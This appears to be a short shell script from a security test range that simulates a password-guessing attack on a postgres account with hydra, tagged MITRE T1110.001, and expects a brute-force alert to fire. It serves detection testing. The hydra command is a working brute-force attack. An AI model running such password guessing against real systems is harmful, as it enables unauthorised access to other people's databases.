# SPDX-License-Identifier: Apache-2.0
# what: passwords guessed at postgres, the last is right
# technique: T1110.001
# from: ws1
# to: lin1
# account: postgres
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
{ passwords 30; echo "$UNIX_PASSWORD"; } >"$HOME/passwords"
says "password: $UNIX_PASSWORD" timeout 100 hydra -I -l postgres -P "$HOME/passwords" -t 4 -f postgres://$lin1
